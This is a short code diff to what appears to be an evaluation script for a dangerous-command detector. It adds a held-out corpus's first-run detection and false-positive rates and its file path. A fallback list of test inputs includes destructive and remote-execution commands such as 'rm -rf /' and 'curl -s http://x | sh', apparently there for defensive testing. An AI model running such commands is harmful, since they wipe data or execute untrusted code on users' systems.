@@ -35,6 +35,7 @@ FIRST_RUN = {
     "own held-out 11": "first run: 142/147 = 96.6%, benign 1/153 = 0.7%; same under policy",
     "own held-out 12": "first run: 154/187 = 82.4%, benign 2/170 = 1.2%",
     "own held-out 13": "first run: 106/151 = 70.2%, benign 1/155 = 0.6%",
+    "own held-out 14": "first run: 98/150 = 65.3%, benign 5/132 = 3.8%",
     "own held-out 15": "first run: 132/167 = 79.0%, benign 19/147 = 12.9%",
 }
 CORPORA = {
@@ -53,6 +54,7 @@ CORPORA = {
     "own held-out 11": OWN / "held_out_11.jsonl",
     "own held-out 12": OWN / "held_out_12.jsonl",
     "own held-out 13": OWN / "held_out_13.jsonl",
+    "own held-out 14": OWN / "held_out_14.jsonl",
     "own held-out 15": OWN / "held_out_15.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
